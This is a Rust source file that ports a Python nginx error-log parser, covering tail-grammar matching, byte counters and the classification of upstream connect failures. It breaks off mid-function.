//! The whole nginx error event: every field of the message and its key/value tail
//! (port of retrywatch/parser.py, `Parser.parse`).
//!
//! The tail grammars of parsers/nginx_error.toml are matched by hand: `fast_tail` (Python
//! `re`) has no real backtracking (every value stops at a character the next key starts
//! with), so it is read left to right; `tail` (the `regex` module) has lazy quoted values
//! that end at the first quote followed by an allowed next key and the rest of a match,
//! and is matched in linear time with the groups the backtracking engine would give (see
//! `FullTail`). Every field is a slice of the input; nothing is allocated.
//!
//! Checked against the Python reference (tests/reference/parser.py) by a differential
//! run over the examples, the peer fixtures, the sample logs and ~1.5M generated and
//! mutated lines: no difference but the documented ones (numbers beyond u64).

use std::sync::LazyLock;

use memchr::memmem::{Finder, FinderRev};

use crate::head::{
    digits, errno_at, is_space, is_word, kind_at, parse_head, peer_of, starts_failure,
    while_connecting, Ahead, Head, Kind,
};

/// The nginx module that logged an event (events.py `Subsystem`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Subsystem {
    Http,
    Stream,
    Mail,
}

const SUBSYSTEMS: [Subsystem; 3] = [Subsystem::Http, Subsystem::Stream, Subsystem::Mail];

impl Subsystem {
    /// The Python name (`"http"`, `"stream"`, `"mail"`).
    pub fn as_str(self) -> &'static str {
        match self {
            Subsystem::Http => "http",
            Subsystem::Stream => "stream",
            Subsystem::Mail => "mail",
        }
    }

    /// The subsystem of [`Subsystem::index`].
    pub fn from_index(i: u8) -> Option<Subsystem> {
        SUBSYSTEMS.get(usize::from(i)).copied()
    }

    /// 0 (http), 1 (stream), 2 (mail).
    pub fn index(self) -> u8 {
        self as u8
    }
}

/// Every field of Python's `Event` (events.py) except time/ts/line/source, as slices of
/// the event's text (`head` holds the time, level, pid, tid and cid).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Event<'a> {
    pub head: Head,
    pub message: &'a [u8],
    pub context: Option<&'a [u8]>,
    pub client: Option<&'a [u8]>,
    pub server: Option<&'a [u8]>,
    pub request: Option<&'a [u8]>,
    pub subrequest: Option<&'a [u8]>,
    pub upstream: Option<&'a [u8]>,
    pub host: Option<&'a [u8]>,
    pub referrer: Option<&'a [u8]>,
    pub login: Option<&'a [u8]>,
    pub peer: Option<&'a [u8]>,
    pub kind: Option<Kind>,
    pub errno: Option<u64>,
    pub errno_text: Option<&'a [u8]>,
    pub subsystem: Option<Subsystem>,
    pub lua_context: Option<&'a [u8]>,
    pub bytes_from_client: Option<u64>,
    pub bytes_to_client: Option<u64>,
    pub bytes_from_upstream: Option<u64>,
    pub bytes_to_upstream: Option<u64>,
    pub connect_failure: bool,
    pub ended: bool,
    /// Physical lines: `text.count("\n") + 1`.
    pub lines: usize,
}

/// Python `Parser.parse`: the event of `text` (a line, or a line with its continuation
/// lines joined by `\n`), or the reason it is unparsed (the reasons of
/// [`parse_head`]).
///
/// Deviations (numbers only; Python's `int` has no bound): besides [`parse_head`]'s, a
/// tail whose byte counter, or an errno pattern match whose errno, does not fit in u64
/// is treated as that regex call returning no match.
pub fn parse_event(text: &[u8]) -> Result<Event<'_>, &'static str> {
    let head = parse_head(text)?;
    let start = head.msg_start;
    let mut ev = Event {
        head,
        message: &text[start..],
        context: None,
        client: None,
        server: None,
        request: None,
        subrequest: None,
        upstream: None,
        host: None,
        referrer: None,
        login: None,
        peer: None,
        kind: None,
        errno: None,
        errno_text: None,
        subsystem: None,
        lua_context: None,
        bytes_from_client: None,
        bytes_to_client: None,
        bytes_from_upstream: None,
        bytes_to_upstream: None,
        connect_failure: false,
        ended: false,
        lines: memchr::memchr_iter(b'\n', text).count() + 1,
    };
    let tail = find_tail(text, start);
    if let Some(tail) = &tail {
        ev.message = &text[start..tail.start];
        read_tail(&mut ev, text, tail);
    }
    read_message(&mut ev, text, tail.is_some());
    Ok(ev)
}

/// `parse_event(text).peer` of an event whose message starts at `msg_start` (its head's),
/// in a fraction of the time: the upstream anomalies read the peer of every connect
/// failure of a new connection. On 2,000 lines of the flood benchmark read over and over,
/// a whole parse costs about 200 ns a line and this about 75 ns (it was 108 before it
/// kept the peer's groups alone, read words instead of bytes, and left out the search
/// for a second key when no quoted value holds a comma); amid the detector's work, about
/// 90 ns.
///
/// The tail is `find_tail`'s: when the message holds exactly one ", client: " and the fast
/// grammar matches from it, that is the right-most place from which it matches, which
/// `find_tail` would choose; anything else goes through `find_tail` itself. The peer is
/// then `_classify`'s: the one in a `connect() to PEER failed` message before the tail,
/// else the tail's upstream.
pub fn failure_peer(text: &[u8], msg_start: usize) -> Option<&[u8]> {
    static KEY: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(TAIL_KEY));
    let start = msg_start;
    let region = text.get(start..)?;
    // Every ", client: " begins with a comma: when the message's first comma begins one,
    // that is the first (nginx's messages put none before their tail).
    let first = match memchr::memchr(b',', region) {
        Some(c) if region[c..].starts_with(TAIL_KEY) => Some(c),
        Some(_) => KEY.find(region),
        None => None,
    };
    let tail = match first {
        None => None,
        Some(first) => {
            // The fast grammar's match from the first key is the tail when no other key
            // follows it. Every comma of that match begins one of the grammar's literals
            // (none of them ", client: ") or lies in a quoted value: when no quoted value
            // holds one, no other key follows (no second search).
            let after = first + TAIL_KEY.len();
            let quick = fast_groups::<PeerTail>(text, start + first)
                .filter(|t| !t.commas_quoted || KEY.find(&region[after..]).is_none());
            quick.or_else(|| find_tail(text, start).map(PeerTail::from))
        }
    };
    let message = &text[start..tail.as_ref().map_or(text.len(), |t| t.start)];
    // Of the kinds, only `connect() to PEER failed` names a peer, and no other kind's
    // pattern starts as it does.
    if message.starts_with(b"connect() to ") {
        if let Some(found) = kind_at(message, 0) {
            if let Some((a, b)) = found.peer {
                return Some(&message[a..b]);
            }
        }
    }
    let (a, b) = tail?.upstream.or(tail?.upstream_bare)?;
    Some(peer_of(&text[a..b]))
}

// -- the tail ------------------------------------------------------------------------------

type Span = Option<(usize, usize)>;

/// The groups of a tail grammar's match (positions in the event's text).
#[derive(Clone, Copy, Debug, Default)]
struct Tail {
    /// `tail.start()`: the `,` of its ", client: ".
    start: usize,
    client: Span,
    starttls: bool,
    server: Span,
    login: Span,
    request: Span,
    subrequest: Span,
    upstream: Span,
    upstream_bare: Span,
    host: Span,
    referrer: Span,
    /// bytes from/to client, bytes from/to upstream.
    counters: Option<[u64; 4]>,
}

const TAIL_KEY: &[u8] = b", client: ";
const SERVER_KEY: &[u8] = b", server: ";
const STARTTLS: &[u8] = b" using starttls";
const BYTES_KEY: &[u8] = b", bytes from/to client:";

#[inline]
fn at(text: &[u8], pos: usize, lit: &[u8]) -> bool {
    text.get(pos..).is_some_and(|rest| rest.starts_with(lit))
}

/// `_find_tail`: the right-most ", client: " from which the fast grammar matches to the
/// end, else the right-most from which the full grammar does.
fn find_tail(text: &[u8], start: usize) -> Option<Tail> {
    static KEY: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(TAIL_KEY));
    let region = text.get(start..)?;
    // Most lines have no tail key at all: one search settles them.
    let last = KEY.rfind(region)?;
    let mut end = last + TAIL_KEY.len();
    while let Some(i) = KEY.rfind(&region[..end]) {
        if let Some(tail) = fast_tail(text, start + i) {
            return Some(tail);
        }
        end = i;
    }
    let mut full = FullTail::new(text);
    let mut end = last + TAIL_KEY.len();
    while let Some(i) = KEY.rfind(&region[..end]) {
        if let Some(tail) = full.match_at(start + i) {
            return Some(tail);
        }
        end = i;
    }
    None
}

/// `,\x20bytes\x20from/to\x20client:(\d+)/(\d+),\x20bytes\x20from/to\x20upstream:(\d+)/(\d+)`
/// at `pos`: its end and the four counters (`None` inside when one is no u64). `\d` is
/// ASCII in `fast_tail` (`re.ASCII`) and any Unicode decimal digit in `tail` (the
/// `regex` module has no ASCII flag there): see [`regex_digits`].
fn counters_at(text: &[u8], pos: usize, unicode: bool) -> Option<(usize, Option<[u64; 4]>)> {
    let number = |at: usize| {
        if unicode {
            regex_digits(text, at)
        } else {
            digits(text, at)
        }
    };
    if !at(text, pos, BYTES_KEY) {
        return None;
    }
    let (p, from_client) = number(pos + BYTES_KEY.len())?;
    if !at(text, p, b"/") {
        return None;
    }
    let (p, to_client) = number(p + 1)?;
    const UPSTREAM: &[u8] = b", bytes from/to upstream:";
    if !at(text, p, UPSTREAM) {
        return None;
    }
    let (p, from_upstream) = number(p + UPSTREAM.len())?;
    if !at(text, p, b"/") {
        return None;
    }
    let (p, to_upstream) = number(p + 1)?;
    let values = (|| Some([from_client?, to_client?, from_upstream?, to_upstream?]))();
    Some((p, values))
}

/// `\d+` of the `regex` module (a str pattern without ASCII: every Unicode decimal
/// digit, `\p{Nd}`) at `pos`, and its value as Python's `int()` reads it (`None` when it
/// does not fit in u64, or holds a digit Python's `int()` does not know; Python raises
/// `ValueError` there).
fn regex_digits(text: &[u8], pos: usize) -> Option<(usize, Option<u64>)> {
    let mut p = pos;
    let mut value = Some(0u64);
    while let Some(&b) = text.get(p) {
        let (digit, len) = if b.is_ascii_digit() {
            (Some(u64::from(b - b'0')), 1)
        } else if b >= 0x80 {
            let chunk = &text[p..text.len().min(p + 4)];
            let valid = match std::str::from_utf8(chunk) {
                Ok(s) => s,
                Err(e) => std::str::from_utf8(&chunk[..e.valid_up_to()]).unwrap_or_default(),
            };
            let Some(c) = valid.chars().next() else { break };
            let Some(digit) = unicode_digit(c) else { break };
            (digit, c.len_utf8())
        } else {
            break;
        };
        value = match (value, digit) {
            (Some(v), Some(d)) => v.checked_mul(10).and_then(|v| v.checked_add(d)),
            _ => None,
        };
        p += len;
    }
    (p > pos).then_some((p, value))
}

/// A Unicode decimal digit as the `regex` module (2026.5.9, its own Unicode tables)
/// matches `\d`: `Some(value)`, with `value` `None` for the digits Python 3.11's `int()`
/// (Unicode 14) does not know. Each entry is the first of ten consecutive digits 0..9
/// (generated from `regex.match(r"\d", chr(c))` and `int(chr(c))`).
fn unicode_digit(c: char) -> Option<Option<u64>> {
    #[rustfmt::skip]
    const ZEROS: &[(u32, bool)] = &[
        (0x30, true), (0x660, true), (0x6F0, true), (0x7C0, true), (0x966, true),
        (0x9E6, true), (0xA66, true), (0xAE6, true), (0xB66, true), (0xBE6, true),
        (0xC66, true), (0xCE6, true), (0xD66, true), (0xDE6, true), (0xE50, true),
        (0xED0, true), (0xF20, true), (0x1040, true), (0x1090, true), (0x17E0, true),
        (0x1810, true), (0x1946, true), (0x19D0, true), (0x1A80, true), (0x1A90, true),
        (0x1B50, true), (0x1BB0, true), (0x1C40, true), (0x1C50, true), (0xA620, true),
        (0xA8D0, true), (0xA900, true), (0xA9D0, true), (0xA9F0, true), (0xAA50, true),
        (0xABF0, true), (0xFF10, true), (0x104A0, true), (0x10D30, true), (0x10D40, false),
        (0x11066, true), (0x110F0, true), (0x11136, true), (0x111D0, true), (0x112F0, true),
        (0x11450, true), (0x114D0, true), (0x11650, true), (0x116C0, true), (0x116D0, false),
        (0x116DA, false), (0x11730, true), (0x118E0, true), (0x11950, true), (0x11BF0, false),
        (0x11C50, true), (0x11D50, true), (0x11DA0, true), (0x11DE0, false), (0x11F50, false),
        (0x16130, false), (0x16A60, true), (0x16AC0, true), (0x16B50, true), (0x16D70, false),
        (0x1CCF0, false), (0x1D7CE, true), (0x1D7D8, true), (0x1D7E2, true), (0x1D7EC, true),
        (0x1D7F6, true), (0x1E140, true), (0x1E2F0, true), (0x1E4F0, false), (0x1E5F1, false),
        (0x1E950, true), (0x1FBF0, true),
    ];
    let c = u32::from(c);
    let i = ZEROS
        .partition_point(|&(zero, _)| zero <= c)
        .checked_sub(1)?;
    let (zero, known) = ZEROS[i];
    let digit = c - zero;
    (digit < 10).then_some(known.then_some(u64::from(digit)))
}

/// The groups of the tail grammars, as [`Groups`] keeps them.
#[derive(Clone, Copy)]
enum Field {
    Client,
    Server,
    Login,
    Request,
    Subrequest,
    Upstream,
    UpstreamBare,
    Host,
    Referrer,
}

/// What a reading of the fast grammar keeps of its match: all of it ([`Tail`]), or the
/// peer's groups alone ([`PeerTail`]: a smaller value to build and return, which
/// measured a fifth of `failure_peer`'s time).
trait Groups: Default {
    fn at(pos: usize) -> Self;
    fn keep(&mut self, field: Field, span: (usize, usize));
    fn starttls(&mut self) {}
    fn counters(&mut self, _values: [u64; 4]) {}
    /// Whether a quoted value holds a comma.
    fn commas_quoted(&mut self, _any: bool) {}
}

impl Groups for Tail {
    fn at(pos: usize) -> Self {
        Tail {
            start: pos,
            ..Tail::default()
        }
    }

    #[inline(always)]
    fn keep(&mut self, field: Field, span: (usize, usize)) {
        let slot = match field {
            Field::Client => &mut self.client,
            Field::Server => &mut self.server,
            Field::Login => &mut self.login,
            Field::Request => &mut self.request,
            Field::Subrequest => &mut self.subrequest,
            Field::Upstream => &mut self.upstream,
            Field::UpstreamBare => &mut self.upstream_bare,
            Field::Host => &mut self.host,
            Field::Referrer => &mut self.referrer,
        };
        *slot = Some(span);
    }

    fn starttls(&mut self) {
        self.starttls = true;
    }

    fn counters(&mut self, values: [u64; 4]) {
        self.counters = Some(values);
    }
}

/// The tail's start and the groups that name its peer.
#[derive(Clone, Copy, Debug, Default)]
struct PeerTail {
    start: usize,
    upstream: Span,
    upstream_bare: Span,
    /// Whether a quoted value holds a comma (read by the fast grammar; else unknown).
    commas_quoted: bool,
}

impl Groups for PeerTail {
    fn at(pos: usize) -> Self {
        PeerTail {
            start: pos,
            ..PeerTail::default()
        }
    }

    #[inline(always)]
    fn keep(&mut self, field: Field, span: (usize, usize)) {
        match field {
            Field::Upstream => self.upstream = Some(span),
            Field::UpstreamBare => self.upstream_bare = Some(span),
            _ => {}
        }
    }

    fn commas_quoted(&mut self, any: bool) {
        self.commas_quoted = any;
    }
}

impl From<Tail> for PeerTail {
    fn from(t: Tail) -> Self {
        PeerTail {
            start: t.start,
            upstream: t.upstream,
            upstream_bare: t.upstream_bare,
            commas_quoted: true,
        }
    }
}

/// The `fast_tail` grammar (Python `re`) matched at `pos` to the end of `text`.
fn fast_tail(text: &[u8], pos: usize) -> Option<Tail> {
    fast_groups(text, pos)
}

/// The `fast_tail` grammar (Python `re`) matched at `pos` to the end of `text`, the
/// groups kept as `G` keeps them.
///
/// No group can give back what it took (client and server stop at a space, comma or
/// quote, quoted values at their first quote, and every next item starts with a comma or
/// is the end), and a key that starts but whose value fails leaves no other key to try at
/// that place, so one left-to-right reading is the regex's match.
fn fast_groups<G: Groups>(text: &[u8], pos: usize) -> Option<G> {
    let token = |from: usize| token_end(text, from);
    // (commas in the quoted values: another ", client: " could only start in one)
    let mut commas = false;
    let mut quoted = |from: usize| {
        let (q, comma) = quote_from(text, from)?;
        commas |= comma;
        Some((from, q))
    };
    if !at(text, pos, TAIL_KEY) {
        return None;
    }
    let mut tail = G::at(pos);
    let mut p = pos + TAIL_KEY.len();
    let end = token(p);
    tail.keep(Field::Client, (p, end));
    p = end;
    if at(text, p, STARTTLS) {
        tail.starttls();
        p += STARTTLS.len();
    }
    if !at(text, p, SERVER_KEY) {
        return None;
    }
    p += SERVER_KEY.len();
    let end = token(p);
    tail.keep(Field::Server, (p, end));
    p = end;
    for (key, field) in [
        (&b", login: \""[..], Field::Login),
        (b", request: \"", Field::Request),
        (b", subrequest: \"", Field::Subrequest),
    ] {
        if at(text, p, key) {
            let span = quoted(p + key.len())?;
            tail.keep(field, span);
            p = span.1 + 1;
        }
    }
    const UPSTREAM: &[u8] = b", upstream: ";
    if at(text, p, UPSTREAM) {
        p += UPSTREAM.len();
        if text.get(p) == Some(&b'"') {
            let span = quoted(p + 1)?;
            tail.keep(Field::Upstream, span);
            p = span.1 + 1;
        } else {
            let n = text[p..]
                .iter()
                .take_while(|&&b| b != b',' && b != b'"')
                .count();
            if n == 0 {
                return None;
            }
            tail.keep(Field::UpstreamBare, (p, p + n));
            p += n;
        }
    }
    for (key, field) in [
        (&b", host: \""[..], Field::Host),
        (b", referrer: \"", Field::Referrer),
    ] {
        if at(text, p, key) {
            let span = quoted(p + key.len())?;
            tail.keep(field, span);
            p = span.1 + 1;
        }
    }
    if let Some((end, values)) = counters_at(text, p, false) {
        tail.counters(values?);
        p = end;
    }
    tail.commas_quoted(commas);
    (p == text.len()).then_some(tail)
}

// Eight bytes at a time, as bit masks (SWAR): a client, a server and a quoted value are
// a few to a few dozen bytes, and a loop over them a byte at a time (or a call to
// `memchr`, which is made for longer haystacks) cost a third of `failure_peer`.
const LOW: u64 = 0x0101_0101_0101_0101;
const HIGH: u64 = 0x8080_8080_8080_8080;

/// The high bit of each byte of `w` that equals `b` (exact: no carry crosses a byte).
#[inline(always)]
fn bytes_equal(w: u64, b: u8) -> u64 {
    let x = w ^ (LOW * u64::from(b));
    !(((x & !HIGH) + !HIGH) | x) & HIGH
}

/// The high bit of each byte of `w` that ends a token: `\s` (9 to 13 and space), `,`, `"`.
#[inline(always)]
fn token_stops(w: u64) -> u64 {
    let low7 = w & !HIGH;
    let from_9 = low7 + LOW * (0x80 - 9);
    let from_14 = low7 + LOW * (0x80 - 14);
    let controls = from_9 & !from_14 & !w & HIGH;
    controls | bytes_equal(w, b' ') | bytes_equal(w, b',') | bytes_equal(w, b'"')
}

#[inline(always)]
fn word_at(text: &[u8], i: usize) -> Option<u64> {
    text.get(i..i + 8)
        .map(|b| u64::from_le_bytes(b.try_into().unwrap_or_default()))
}

/// The end of a token from `from`: its first `\s`, `,` or `"`, else the end of `text`.
#[inline(always)]
fn token_end(text: &[u8], from: usize) -> usize {
    let mut i = from;
    while let Some(w) = word_at(text, i) {
        let stops = token_stops(w);
        if stops != 0 {
            return i + (stops.trailing_zeros() / 8) as usize;
        }
        i += 8;
    }
    i + text[i..]
        .iter()
        .take_while(|&&b| !is_space(b) && b != b',' && b != b'"')
        .count()
}

/// The first `"` from `from`, and whether a comma comes before it.
#[inline(always)]
fn quote_from(text: &[u8], from: usize) -> Option<(usize, bool)> {
    let mut i = from;
    let mut comma = false;
    while let Some(w) = word_at(text, i) {
        let quotes = bytes_equal(w, b'"');
        let commas = bytes_equal(w, b',');
        if quotes != 0 {
            // the commas in the bytes before the quote's
            let before = (quotes & quotes.wrapping_neg()) - 1;
            comma |= commas & before != 0;
            return Some((i + (quotes.trailing_zeros() / 8) as usize, comma));
        }
        comma |= commas != 0;
        i += 8;
    }
    let q = i + memchr::memchr(b'"', text.get(i..)?)?;
    Some((q, comma || text[i..q].contains(&b',')))
}

/// A key/value group of the full `tail` grammar after client and server, in order.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Group {
    Login,
    Request,
    Subrequest,
    Upstream,
    Host,
    Referrer,
    Bytes,
}

impl Group {
    /// The group whose opening literal is at `p`, and where its value starts.
    fn at(text: &[u8], p: usize) -> Option<(Group, usize)> {
        let rest = text.get(p..)?;
        if !rest.starts_with(b", ") {
            return None;
        }
        let (group, lit): (Group, &[u8]) = match rest.get(2)? {
            b'l' => (Group::Login, b", login: \""),
            b'r' if rest.get(3) == Some(&b'e') && rest.get(4) == Some(&b'q') => {
                (Group::Request, b", request: \"")
            }
            b'r' => (Group::Referrer, b", referrer: \""),
            b's' => (Group::Subrequest, b", subrequest: \""),
            b'u' => (Group::Upstream, b", upstream: "),
            b'h' => (Group::Host, b", host: \""),
            b'b' => (Group::Bytes, BYTES_KEY),
            _ => return None,
        };
        rest.starts_with(lit).then_some((group, p + lit.len()))
    }

    /// The lookahead after a quoted value: `(?=, (?:KEYS):|\Z)`.
    fn follow(self) -> &'static [&'static [u8]] {
        match self {
            Group::Login => &[b", upstream:", b", request:"],
            Group::Request => &[b", subrequest:", b", upstream:", b", host:", b", referrer:"],
            Group::Subrequest => &[b", upstream:", b", host:", b", referrer:"],
            Group::Upstream => &[b", host:", b", referrer:", BYTES_KEY],
            Group::Host => &[b", referrer:"],
            Group::Referrer | Group::Bytes => &[],
        }
    }
}

/// The full `tail` grammar (the `regex` module, DOTALL):
///
/// ```text
/// , client: (?P<client>[^,]*?)(?P<starttls> using starttls)?, server: (?P<server>[^,]*)
/// (?:, login: "(?P<login>.*?)"(?=, (?:upstream|request):|\Z))?
/// (?:, request: "(?P<request>.*?)"(?=, (?:subrequest|upstream|host|referrer):|\Z))?
/// (?:, subrequest: "(?P<subrequest>.*?)"(?=, (?:upstream|host|referrer):|\Z))?
/// (?:, upstream: (?:"(?P<upstream>.*?)"(?=, (?:host|referrer|bytes from/to client):|\Z)
///                 |(?P<upstream_bare>[^,"]+)))?
/// (?:, host: "(?P<host>.*?)"(?=, referrer:|\Z))?
/// (?:, referrer: "(?P<referrer>.*?)"?)?
/// (?:, bytes from/to client:(\d+)/(\d+), bytes from/to upstream:(\d+)/(\d+))?
/// \Z
/// ```
///
/// Matched without backtracking search, in linear time, with the groups Python's engine
/// gives. After the server, every group starts with ", KEY" and at most one group's
/// literal matches at a place, so "the rest of the grammar matches from `p`" depends only
/// on `p` ([`FullTail::rest_matches`]): the end of the text, or the group whose literal is
/// at `p` matching and the rest matching after it. A lazy quoted value of group `g` can
/// end at any quote `q` after its opening (`.` takes quotes, commas and newlines) for
/// which `closes(g, q)`: `q + 1` is the end, or starts one of `g`'s lookahead keys from
/// which the rest matches. That does not depend on where the value opened, so the group
/// matches from `p` iff the last quote that closes it lies after `p`'s opening quote
/// (`last`, computed once per group and text), and the engine's lazy choice is the first
/// such quote. The referrer always matches once its literal does (its value may run to
/// the end, its quote is optional).
struct FullTail<'t> {
    text: &'t [u8],
    /// Per quoted group (login, request, subrequest, upstream, host): the last quote that
    /// can close its value, once computed.
    last: [Option<Option<usize>>; 5],
}

impl<'t> FullTail<'t> {
    fn new(text: &'t [u8]) -> Self {
        FullTail {
            text,
            last: [None; 5],
        }
    }

    /// The grammar matched at `pos` (a ", client: "), as the `regex` module matches it.
    fn match_at(&mut self, pos: usize) -> Option<Tail> {
        let text = self.text;
        if !at(text, pos, TAIL_KEY) {
            return None;
        }
        let client = pos + TAIL_KEY.len();
        // `[^,]*?` then ` using starttls`? then ", server: ": the client cannot cross a
        // comma, so it ends at the first comma (no starttls) or 15 bytes before it (with
        // starttls, the shorter, tried first). Both go on from that comma.
        let comma = memchr::memchr(b',', &text[client..]).map_or(text.len(), |c| client + c);
        if !at(text, comma, SERVER_KEY) {
            return None;
        }
        let server = comma + SERVER_KEY.len();
        // `[^,]*` is greedy, and everything after it starts with a comma or is the end:
        // only the longest server can match.
        let server_end = memchr::memchr(b',', &text[server..]).map_or(text.len(), |c| server + c);
        if !self.rest_matches(server_end) {
            return None;
        }
        let with_tls = comma >= client + STARTTLS.len() && text[..comma].ends_with(STARTTLS);
        let mut tail = Tail {
            start: pos,
            client: Some((
                client,
                if with_tls {
                    comma - STARTTLS.len()
                } else {
                    comma
                },
            )),
            starttls: with_tls,
            server: Some((server, server_end)),
            ..Tail::default()
        };
        self.read_groups(server_end, &mut tail)?;
        Some(tail)
    }

    /// Whether the groups from `p` on (each optional, in order) match to the end.
    fn rest_matches(&mut self, p: usize) -> bool {
        let text = self.text;
        if p == text.len() {
            return true;
        }
        let Some((group, value)) = Group::at(text, p) else {
            return false;
        };
        match group {
            Group::Upstream if text.get(value) != Some(&b'"') => {
                // (?P<upstream_bare>[^,"]+), greedy: a shorter value would leave a
                // character that is neither a comma nor the end, where nothing can follow.
                let end = bare_end(text, value);
                end > value && self.after_upstream(end)
            }
            Group::Upstream => self.last(group).is_some_and(|q| q > value),
            Group::Referrer => true,
            Group::Bytes => counters_at(text, p, true).is_some_and(|(end, _)| end == text.len()),
            _ => self.last(group).is_some_and(|q| q >= value),
        }
    }

    /// What may follow an upstream value: a host, referrer or byte-counter group, or the
    /// end (`rest_matches` from the host group on).
    fn after_upstream(&mut self, p: usize) -> bool {
        p == self.text.len()
            || Group::at(self.text, p)
                .is_some_and(|(g, _)| matches!(g, Group::Host | Group::Referrer | Group::Bytes))
                && self.rest_matches(p)
    }

    /// Whether the quote at `q` can close a value of `group` (its lookahead holds and the
    /// rest of the grammar matches after it).
    fn closes(&mut self, group: Group, q: usize) -> bool {
        let next = q + 1;
        next == self.text.len()
            || group.follow().iter().any(|key| at(self.text, next, key)) && self.rest_matches(next)
    }

    /// The last quote that can close a value of `group` (computed once).
    fn last(&mut self, group: Group) -> Option<usize> {
        let slot = group as usize;
        if let Some(known) = self.last[slot] {
            return known;
        }
        let text = self.text;
        let found = memchr::memrchr_iter(b'"', text).find(|&q| self.closes(group, q));
        self.last[slot] = Some(found);
        found
    }

    /// The first quote from `from` that closes a value of `group`: the lazy value's end.
    fn first_close(&mut self, group: Group, from: usize) -> Option<usize> {
        let text = self.text;
        memchr::memchr_iter(b'"', &text[from..])
            .map(|q| from + q)
            .find(|&q| self.closes(group, q))
    }

    /// The groups' values from `p` (where `rest_matches` holds). `None` when a byte
    /// counter does not fit in u64 (deviation: the match is treated as none).
    fn read_groups(&mut self, mut p: usize, tail: &mut Tail) -> Option<()> {
        let text = self.text;
        while p < text.len() {
            let (group, value) = Group::at(text, p)?;
            match group {
                Group::Upstream if text.get(value) != Some(&b'"') => {
                    let end = bare_end(text, value);
                    tail.upstream_bare = Some((value, end));
                    p = end;
                }
                Group::Referrer => {
                    // "(?P<referrer>.*?)"? : the shortest value after which the closing
                    // quote and the rest, or the rest, match; the rest (counters or the
                    // end) starts with a comma or is the end.
                    let rest_ok = |at: usize| {
                        at == text.len()
                            || counters_at(text, at, true).is_some_and(|(end, _)| end == text.len())
                    };
                    let mut end = text.len();
                    p = text.len();
                    for e in memchr::memchr2_iter(b'"', b',', &text[value..]) {
                        let e = value + e;
                        if text[e] == b'"' && rest_ok(e + 1) {
                            (end, p) = (e, e + 1);
                            break;
                        }
                        if rest_ok(e) {
                            (end, p) = (e, e);
                            break;
                        }
                    }
                    tail.referrer = Some((value, end));
                }
                Group::Bytes => {
                    let (end, values) = counters_at(text, p, true)?;
                    tail.counters = Some(values?);
                    p = end;
                }
                _ => {
                    let open = if group == Group::Upstream {
                        value + 1
                    } else {
                        value
                    };
                    let q = self.first_close(group, open)?;
                    let span = Some((open, q));
                    match group {
                        Group::Login => tail.login = span,
                        Group::Request => tail.request = span,
                        Group::Subrequest => tail.subrequest = span,
                        Group::Upstream => tail.upstream = span,
                        _ => tail.host = span,
                    }
                    p = q + 1;
                }
            }
        }
        Some(())
    }
}

/// The end of `[^,"]+` from `from` (`from` itself when it is empty).
fn bare_end(text: &[u8], from: usize) -> usize {
    from + text[from..]
        .iter()
        .take_while(|&&b| b != b',' && b != b'"')
        .count()
}

// -- reading the fields ----------------------------------------------------------------------

/// `_read_tail`.
fn read_tail<'a>(ev: &mut Event<'a>, text: &'a [u8], tail: &Tail) {
    let get = |span: Span| span.map(|(a, b)| &text[a..b]);
    ev.client = get(tail.client);
    ev.server = get(tail.server);
    ev.login = get(tail.login);
    ev.request = get(tail.request);
    ev.subrequest = get(tail.subrequest);
    ev.host = get(tail.host);
    ev.referrer = get(tail.referrer);
    if let Some(upstream) = get(tail.upstream.or(tail.upstream_bare)) {
        ev.upstream = Some(upstream);
        ev.peer = Some(peer_of(upstream));
    }
    if let Some([from_client, to_client, from_upstream, to_upstream]) = tail.counters {
        ev.bytes_from_client = Some(from_client);
        ev.bytes_to_client = Some(to_client);
        ev.bytes_from_upstream = Some(from_upstream);
        ev.bytes_to_upstream = Some(to_upstream);
        ev.subsystem = Some(Subsystem::Stream);
    } else if tail.starttls || tail.login.is_some() || tail.upstream_bare.is_some() {
        ev.subsystem = Some(Subsystem::Mail);
    }
}

// Searchers built once: building one costs more than a search of a line.
static UPSTREAM: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"upstream"));
static BYTES_FROM_CLIENT: LazyLock<Finder<'static>> =
    LazyLock::new(|| Finder::new(b"bytes from/to client:"));
static LUA_CONTEXT: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b", context: "));

/// `_read_message` on `ev.message` (`text` is the whole event, `ev.line` in Python).
fn read_message(ev: &mut Event<'_>, text: &[u8], with_tail: bool) {
    let message = ev.message;
    if let Some(context) = context_of(message) {
        ev.context = Some(context);
    }
    if !with_tail {
        if let Some(lua) = lua_context_of(message) {
            ev.lua_context = Some(lua);
        }
    }
    classify(ev, text);
    if ev.subsystem.is_none() {
        ev.subsystem = subsystem(ev);
    }
    if ended(message) {
        ev.ended = true;
    }
}

/// `_classify`.
fn classify(ev: &mut Event<'_>, text: &[u8]) {
    let message = ev.message;
    if starts_failure(message) {
        if let Some(found) = kind_at(message, 0) {
            ev.kind = Some(found.kind);
            if let (Some(errno), Some((a, b))) = (found.errno, found.errno_text) {
                ev.errno = Some(errno);
                ev.errno_text = Some(&message[a..b]);
            }
            if let Some((a, b)) = found.peer {
                ev.peer = Some(&message[a..b]);
            }
            ev.connect_failure = found.kind.always_connect_failure() || while_connecting(text);
            return;
        }
    }
    if let Some((errno, errno_text)) = errno_of(message) {
        ev.errno = Some(errno);
        ev.errno_text = Some(errno_text);
    }
    if ev.head.level.is_error_or_worse()
        && (ev.upstream.is_some() || ev.context.is_some_and(|c| UPSTREAM.find(c).is_some()))
    {
        ev.kind = Some(Kind::Other);
    }
}

/// `errno` pattern, `search`: the first `(DIGITS: TEXT)`. A match whose errno does not fit
/// in u64 is no match (deviation).
fn errno_of(message: &[u8]) -> Option<(u64, &[u8])> {
    let mut ahead = Ahead::default();
    for open in memchr::memchr_iter(b'(', message) {
        if let Some(found) = errno_at(message, open, &mut ahead) {
            let (a, b) = found.text;
            return found.errno.map(|errno| (errno, &message[a..b]));
        }
    }
    None
}

/// `context` pattern, `search`: `\x20while\x20(?P<context>[^,]*(?:,\x20so\x20[^,]*)?)\Z`:
/// the rest after the left-most " while " whose rest holds no comma, or one comma that
/// starts ", so ". That is the first " while " after the last comma, or, when the last
/// comma starts ", so ", after the comma before it.
fn context_of(message: &[u8]) -> Option<&[u8]> {
